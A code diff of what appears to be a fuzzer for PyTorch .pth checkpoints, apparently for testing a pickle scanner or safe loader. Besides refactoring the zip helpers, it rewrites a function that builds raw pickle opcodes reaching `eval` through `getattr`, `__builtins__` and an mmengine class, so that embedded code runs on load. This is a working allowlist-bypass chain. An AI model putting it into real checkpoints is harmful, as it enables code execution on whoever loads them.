@@ -10,6 +10,7 @@ import pickletools
 import re
 import struct
 import zipfile
+from collections.abc import Iterable
 from functools import lru_cache
 from random import Random
 
@@ -51,12 +52,31 @@ def _number(value: int) -> bytes:
 
 
 def _hidden_eval() -> bytes:
-    """Return a chain that reaches ``eval`` through ``getattr`` and the attributes of a class."""
+    """Return a chain that reaches ``eval`` where ``getattr`` and a class of mmengine are allowed.
+
+    The dict of builtins is an attribute of every Python function. It becomes the attributes of one
+    buffer; ``eval`` of it becomes the method ``update`` of another; and a third one calls that,
+    with our text, when its own state is set.
+    """
     buffer = b"cmmengine.logging.history_buffer\nHistoryBuffer\n"
-    made, builtins = buffer + b")R", call("builtins getattr", buffer, text("__init__"))
-    builtins = call("builtins getattr", builtins, text("__builtins__"))
-    evaluate = call("builtins getattr", made + builtins + b"b", text("eval"))
-    return evaluate + b"(" + text(CODE) + b"tR"
+
+    def attribute(of: bytes, name: str) -> bytes:
+        return call("builtins getattr", of, text(name))
+
+    def get(number: int) -> bytes:
+        return b"j" + struct.pack("<I", number)
+
+    def new(number: int) -> bytes:
+        return buffer + b")Rr" + struct.pack("<I", number)
+
+    first, second, third = 90_001, 90_002, 90_003
+    function = attribute(buffer, "__init__")
+    code = new(first) + attribute(function, "__builtins__") + b"b"
+    evaluate = attribute(get(first), "eval")
+    code += new(second) + b"}" + text("update") + evaluate + b"sb"
+    code += new(third) + b"}" + text("_statistics_methods") + get(second) + b"s"
+    code += text("_set_default_statistics") + attribute(get(first), "dict") + b"sb"
+    return code + b"}" + text("statistics_methods") + text(CODE) + b"sb\x87"
 
 
 SIZES = (
@@ -94,7 +114,7 @@ def mutate_checkpoint(data: bytes, rng: Random) -> bytes:
     """Return a .pth file with its bytes, its zip entries or its pickle changed."""
     if rng.random() < 0.2:
         return mutate_bytes(data, rng)
-    entries = _unzip(data)
+    entries = unzipped(data)
     if entries is None:
         return mutate_pickle(data, rng)  # the format before zip: pickles one after the other
     entries = list(entries)
@@ -114,7 +134,7 @@ def mutate_checkpoint(data: bytes, rng: Random) -> bytes:
             (name, mutate_pickle(content, rng) if name.endswith("data.pkl") else content)
             for name, content in entries
         ]
-    return _zip(entries, zipfile.ZIP_DEFLATED if rng.random() < 0.05 else zipfile.ZIP_STORED)
+    return rebuilt(entries, zipfile.ZIP_DEFLATED if rng.random() < 0.05 else zipfile.ZIP_STORED)
 
 
 def mutate_pickle(data: bytes, rng: Random) -> bytes:
@@ -123,9 +143,9 @@ def mutate_pickle(data: bytes, rng: Random) -> bytes:
     places = _op_places(data)
     if kind == 0 or not places:
         return mutate_bytes(data, rng)
-    if kind <= 4:  # an attack whose result is dropped, or becomes a part of the content
-        place = rng.choice(places)
-        return data[:place] + rng.choice(ATTACKS) + rng.choice((b"0", b"0", b"")) + data[place:]
+    if kind <= 4:  # at the beginning the result of an attack lies below all else, out of the way
+        place = rng.choice((places[0], rng.choice(places)))
+        return data[:place] + rng.choice(ATTACKS) + data[place:]
     if kind <= 6 and (found := list(GLOBAL.finditer(data))):
         match = rng.choice(found)
         name = rng.choice(GLOBALS).replace(" ", "\n").encode()
@@ -157,7 +177,8 @@ def _op_places(data: bytes) -> tuple[int, ...]:
 
 
 @lru_cache(maxsize=64)
-def _unzip(data: bytes) -> tuple[tuple[str, bytes], ...] | None:
+def unzipped(data: bytes) -> tuple[tuple[str, bytes], ...] | None:
+    """Return the parts of a zip archive by name, in their order; None if it is none."""
     try:
         with zipfile.ZipFile(io.BytesIO(data)) as archive:
             return tuple((name, archive.read(name)) for name in archive.namelist())
@@ -165,7 +186,8 @@ def _unzip(data: bytes) -> tuple[tuple[str, bytes], ...] | None:
         return None
 
 
-def _zip(entries: list[tuple[str, bytes]], compression: int) -> bytes:
+def rebuilt(entries: Iterable[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
+    """Return a zip archive of named parts, with the right checksum of each."""
     file = io.BytesIO()
     with zipfile.ZipFile(file, "w", compression) as archive:
         for name, content in entries:
